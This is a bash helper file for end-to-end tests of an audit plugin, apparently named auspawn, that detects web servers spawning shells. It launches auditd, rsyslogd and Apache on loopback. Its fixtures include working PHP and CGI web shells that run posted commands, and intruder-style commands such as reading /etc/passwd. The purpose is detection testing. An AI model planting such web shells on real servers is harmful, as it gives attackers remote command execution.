# shellcheck shell=bash
# What the end-to-end tests share: a private auditd with the plugin, a private rsyslogd, servers on
# loopback ports, and the comparison of what was run with what was reported. A case sources this file
# and reads
#
#	needs PROGRAM...                       skip where these are not installed
#	start                                  rsyslogd, auditd, the plugin
#	audit_rule -a always,exit ...          what the kernel shall record
#	expect RULE COMMAND_LINE PARENT ...    what shall be reported, in any order
#	finish                                 wait for that, stop everything, compare
#
# Everything is below $dir, which is removed at the end. Settings, from the environment:
#
#	AUSPAWN          the plugin to test (default: the one in this tree)
#	AUSPAWN_RULES    its rule files (default: those in this tree)
#	CI               when set, a case that can't run here has failed
#	KEEP             when set, $dir is left for inspection

set -eu -o pipefail

e2e=$(dirname "$(readlink -f "${BASH_SOURCE[0]}")")
top=$(dirname "$(dirname "$e2e")")
AUSPAWN=$(readlink -m "${AUSPAWN:-$top/plugin/auspawn}")
AUSPAWN_RULES=$(readlink -m "${AUSPAWN_RULES:-$top/conf/rules.d}")

# The account that servers run as. Every audit rule names it, so nothing else is recorded.
WEB_USER=www-data

# Who the plugin becomes: an account that every machine has, so that none is made here.
PLUGIN_USER=nobody

# How auditd writes its records, ENRICHED or RAW. To be set before start.
log_format=ENRICHED

# Further settings of auspawn.conf. To be set before start.
more_settings=

# What "sh" is: its records, and so the alerts, name the executable.
shell=$(readlink -f "$(command -v sh)")

# shellcheck source=auditd.sh
. "$e2e/auditd.sh"

dir=
daemons=()
at_exit=()

skip() {
	echo "SKIP: $*"
	[[ -z ${CI:-} ]] || exit 1
	exit 77
}

fail() {
	echo "FAIL: $*"
	exit 1
}

# figure TEXT: something measured, which tests/e2e/run prints even when the case has passed.
figure() {
	echo "figure: $*"
}

# needs PROGRAM|FILE...: skip the case where one of them is missing.
needs() {
	local what
	for what; do
		command -v "$what" >/dev/null || skip "$what is not installed"
	done
}

# --- before and after ---

# show_logs: the end of what everybody wrote; of the audit log, only what the rules recorded.
show_logs() {
	local file
	for file in "$dir"/audit/auditd.out "$dir"/log/*.log; do
		[[ -s $file ]] || continue
		echo "--- ${file#"$dir"/}"
		tail -n 20 "$file" | cut -c 1-500
	done
	[[ -e $dir/audit/log/audit.log ]] || return 0
	echo "--- audit.log"
	grep -aE 'type=EXECVE|key="(exec|fork)"' "$dir/audit/log/audit.log" | tail -n 20 | cut -c 1-300
}

stop_daemons() {
	local i
	for ((i = ${#daemons[@]} - 1; i >= 0; i--)); do
		end_process "${daemons[i]}"
	done
	daemons=()
}

# stop: the plugin gets everything that was recorded, rsyslogd everything that the plugin sent.
stop() {
	auditd_stop
	stop_daemons
}

clean_up() {
	local status=$? command
	set +e
	trap '' INT TERM HUP PIPE
	# bash 5.2 crashes if a signal ended a timed read and another is begun on the way out.
	# shellcheck disable=SC2317 # wait_until calls it
	nap() { sleep 0.01; }
	audit_give_back
	stop_daemons
	for command in "${at_exit[@]}"; do
		eval "$command"
	done
	[[ $status == 0 || $status == 77 ]] || show_logs
	if [[ -n ${KEEP:-} ]]; then
		echo "kept: $dir"
	else
		cd / && rm -rf "$dir"
	fi
	exit "$status"
}

begin() {
	local obstacle
	obstacle=$(audit_obstacle)
	[[ -z $obstacle ]] || skip "$obstacle"
	needs rsyslogd jq setpriv
	id "$PLUGIN_USER" >/dev/null 2>&1 || skip "there is no account $PLUGIN_USER"
	id "$WEB_USER" >/dev/null 2>&1 || skip "there is no account $WEB_USER"
	[[ -x $AUSPAWN ]] || fail "no plugin at $AUSPAWN: build it first, or set AUSPAWN"

	dir=$(mktemp -d "${TMPDIR:-/tmp}/auspawn-e2e.XXXXXX")
	trap clean_up EXIT
	trap 'exit 130' INT TERM HUP
	chmod 0755 "$dir"
	install -d "$dir/bin" "$dir/log" "$dir/rules.d" "$dir/local.d" "$dir/www"
	install -d -m 0700 "$dir/state"
	install -m 0755 "$AUSPAWN" "$dir/bin/auspawn"
	cp "$AUSPAWN_RULES"/*.conf "$dir/rules.d/"
	alerts=$dir/log/alerts.log
	messages=$dir/log/messages.log
	expected=$dir/expected
	touch "$alerts" "$expected"
	audit_take
	# The rules tell working directories apart: the same one for every run.
	cd "$dir"
}

# --- the chain: auditd, plugin, rsyslogd ---

# daemon NAME COMMAND...: run COMMAND in the background until the end of the case. A session of its own,
# because Apache ends its whole process group, and the terminal's Ctrl-C is for the case alone.
daemon() {
	local name=$1
	shift
	setsid "$@" </dev/null >>"$dir/log/$name.log" 2>&1 &
	daemons+=($!)
}

# A copy of rsyslogd, because some distributions confine /usr/sbin/rsyslogd to its usual files.
start_rsyslogd() {
	cat >"$dir/rsyslog.conf" <<-END
		global(workDirectory="$dir")
		module(load="imuxsock" SysSock.Use="off")
		input(type="imuxsock" Socket="$dir/log.socket")
		template(name="message" type="string" string="%msg%\n")
		template(name="whole" type="string" string="%syslogfacility-text%.%syslogseverity-text% %syslogtag%%msg%\n")
		if \$syslogfacility-text == "authpriv" and \$msg startswith " {" then
			action(type="omfile" file="$alerts" template="message")
		else
			action(type="omfile" file="$messages" template="whole")
	END
	install -m 0755 "$(command -v rsyslogd)" "$dir/bin/rsyslogd"
	daemon rsyslogd "$dir/bin/rsyslogd" -n -f "$dir/rsyslog.conf" -i "$dir/rsyslogd.pid"
	wait_until 10 test -S "$dir/log.socket" || fail "rsyslogd did not start"
}

# configure_auspawn STATE_DIR
configure_auspawn() {
	cat >"$dir/auspawn.conf" <<-END
		rules_dir = "$dir/rules.d";
		state_dir = "$1";
		user = "$PLUGIN_USER";
		syslog = { enabled = true; socket = "$dir/log.socket"; facility = "authpriv"; format = "json"; };
		limits = { message_size = 8000; };
		local_dir = "$dir/local.d";
		$more_settings
	END
	chmod 0640 "$dir/auspawn.conf"
}

# start: run it all.
start() {
	configure_auspawn "$dir/state"
	start_rsyslogd
	auditd_configure "$dir/audit" "$dir/bin/auspawn" "$dir/auspawn.conf" "$log_format"
	auditd_start "$dir/audit" || fail "auditd and the plugin did not start"
	wait_until 10 plugin_is_confined || fail "the plugin is not confined: $(plugin_holds)"
}

# plugin_holds: user, capabilities, filter of system calls, as the kernel has them.
plugin_holds() {
	awk '/^(Uid|CapEff|CapBnd|NoNewPrivs|Seccomp):/ { printf "%s%s ", $1, $2 }' "/proc/$(plugin_pid)/status"
}

# plugin_is_confined: it is past what it does as root. CAP_SYS_PTRACE and CAP_DAC_READ_SEARCH are left.
plugin_is_confined() {
	[[ $(plugin_holds) == "Uid:$(id -u "$PLUGIN_USER") CapEff:0000000000080004 CapBnd:0000000000000000 NoNewPrivs:1 Seccomp:2 " ]]
}

# audit_execs: record the programs that the web account starts, and nothing else.
audit_execs() {
	audit_rule -a always,exit -F arch=b64 -S execve,execveat -F "uid=$WEB_USER" -k exec
}

# audit_forks: record the processes that the web account creates, too.
audit_forks() {
	audit_rule -a always,exit -F arch=b64 -S fork,vfork,clone,clone3 -F "uid=$WEB_USER" -F success=1 -k fork
}

# --- servers ---

# What runs a command as the web account. It is replaced by the command, so their pids are one.
as_web_user=(setpriv --reuid="$WEB_USER" --regid="$WEB_USER" --clear-groups)

# free_port: a loopback port that nobody listens on, below those that the kernel hands out itself.
free_port() {
	local port
	while port=$((RANDOM % 10000 + 20000)); do
		(exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null || break
	done
	echo "$port"
}

answers() {
	curl -sS -o /dev/null --max-time 5 "$1" 2>/dev/null
}

# await_server NAME URL: fail unless the server answers, whatever it answers.
await_server() {
	wait_until 15 answers "$2" || fail "$1 did not start"
}

# start_apache DIRECTIVES: Apache, prefork, serving $dir/www; sets $url.
start_apache() {
	local modules=/usr/lib/apache2/modules port
	port=$(free_port)
	url=http://127.0.0.1:$port
	cat >"$dir/apache.conf" <<-END
		ServerRoot "$dir"
		ServerName localhost
		Listen 127.0.0.1:$port
		DefaultRuntimeDir "$dir"
		PidFile "$dir/apache.pid"
		ErrorLog "$dir/log/apache-error.log"
		User $WEB_USER
		Group $WEB_USER
		LoadModule mpm_prefork_module $modules/mod_mpm_prefork.so
		LoadModule authz_core_module $modules/mod_authz_core.so
		LoadModule alias_module $modules/mod_alias.so
		StartServers 2
		DocumentRoot "$dir/www"
		$1
	END
	daemon apache apache2 -f "$dir/apache.conf" -DFOREGROUND
	await_server Apache "$url/"
}

# write_php_shell: the usual web shell, as a file to be served. It does what is posted to it.
write_php_shell() {
	cat >"$dir/www/shell.php" <<-'END'
		<?php
		$command = $_POST['command'];
		switch ($_POST['by']) {
		case 'system':     system($command); break;
		case 'exec':       exec($command, $lines); echo implode("\n", $lines); break;
		case 'shell_exec': echo shell_exec($command); break;
		case 'passthru':   passthru($command); break;
		case 'popen':      $pipe = popen($command, 'r'); echo stream_get_contents($pipe); pclose($pipe); break;
		case 'proc_open':  proc_close(proc_open($command, [], $pipes)); break;
		}
	END
}

# php_shell_runs COMMAND FUNCTION: have the web shell at $url run COMMAND by that function of PHP.
php_shell_runs() {
	curl -sS -f --max-time 20 -o "$dir/answer" --data-urlencode "command=$1" -d "by=$2" "$url/shell.php" ||
		fail "the web shell did not answer"
}

# drive_php_shell SERVER EXECUTABLE: what an intruder types, by each way that PHP has to run it; expect
# an alert for each. The last is a shell within a shell: the account alone makes that one suspicious.
drive_php_shell() {
	local commands functions i
	functions=(system exec shell_exec passthru popen proc_open)
	commands=(
		'id'
		'uname -a; hostname'
		'cat /etc/passwd | head -n 1'
		"echo 'single' \"double\" \\\\ \$HOME"
		$'printf one\nprintf two'
		'echo grüße'
		"echo $(printf 'long%.0s' {1..500})"
	)
	for i in "${!commands[@]}"; do
		php_shell_runs "${commands[i]}" "${functions[i % ${#functions[@]}]}"
		expect web-shell-spawn "sh -c ${commands[i]}" "$1" "$2"
	done
	php_shell_runs 'bash -c "id; :"; :' system
	expect web-shell-spawn 'sh -c bash -c "id; :"; :' "$1" "$2"
	expect web-shell-spawn 'bash -c id; :' "$(basename "$shell")" "$shell"
}

# write_cgi_shell ROOT: a web shell in shell, as a CGI script below ROOT.
write_cgi_shell() {
	install -d "$1/cgi-bin"
	cat >"$1/cgi-bin/shell" <<-'END'
		#!/bin/sh
		printf 'Content-Type: text/plain\r\n\r\n'
		read -r command
		sh -c "$command" 2>&1
	END
	chmod 0755 "$1/cgi-bin/shell"
}

cgi_shell_runs() {
	curl -sS -f --max-time 20 -o "$dir/answer" -d "$1" "${2:-$url}/cgi-bin/shell" ||
		fail "the web shell did not answer"
}

# start_httpd: a web server in one line, for cases about something else than servers: a copy of the
# shell that is named httpd and does by "sh -c" whatever httpd_runs sends it.
start_httpd() {
	install -m 0755 "$shell" "$dir/bin/httpd"
	mkfifo "$dir/httpd.in"
	exec {HTTPD_FD}<>"$dir/httpd.in"
	# shellcheck disable=SC2016 # expands in that shell
	setsid "${as_web_user[@]}" "$dir/bin/httpd" -c 'while read -r line; do sh -c "$line"; done' \
		<"$dir/httpd.in" >"$dir/log/httpd.log" 2>&1 &
	daemons+=($!)
	wait_until 10 test "$dir/bin/httpd" -ef "/proc/$!/exe" || fail "httpd did not start"
}

httpd_runs() {
	printf '%s\n' "$1" >&"$HTTPD_FD"
}

# --- alerts ---

# Rarity rules are judged by the clock, at whole hours: their alerts may or may not fall into a case.
by_clock='.rule.id == "web-unusual-child"'

# expect RULE COMMAND_LINE PARENT_NAME PARENT_EXECUTABLE [CONTAINER]: one alert shall say so.
expect() {
	jq -cn '$ARGS.positional' --args -- "$@" >>"$expected"
}

# reported: what the alerts say, in the form of expect.
reported() {
	jq -c "select($by_clock | not) | [.rule.id, .process.command_line, .process.parent.name,
		.process.parent.executable, .container.id] | if .[4] then . else .[:4] end" "$alerts"
}

# expect_every CONDITION: each alert shall satisfy the jq condition.
expect_every() {
	jq -es "map(select($by_clock | not)) | length > 0 and all($1)" "$alerts" >/dev/null ||
		fail "not true of every alert: $1"$'\n'"$(jq -c "select($1 | not)" "$alerts")"
}

alert_count() {
	reported | wc -l
}

has_alerts() {
	(($(alert_count) >= $1))
}

# await_alerts COUNT [SECONDS]: wait until so many have come since the start.
await_alerts() {
	wait_until "${2:-15}" has_alerts "$1"
}

# finish: wait for what was expected, stop, so that all there is has come, and compare.
finish() {
	local count
	count=$(wc -l <"$expected")
	await_alerts "$count" || echo "only $(alert_count) of $count alerts came"
	stop
	diff -u --label expected --label reported <(sort "$expected") <(reported | sort) ||
		fail "the alerts differ from what was run"
	figure "$count alerts, each as expected"
}

begin
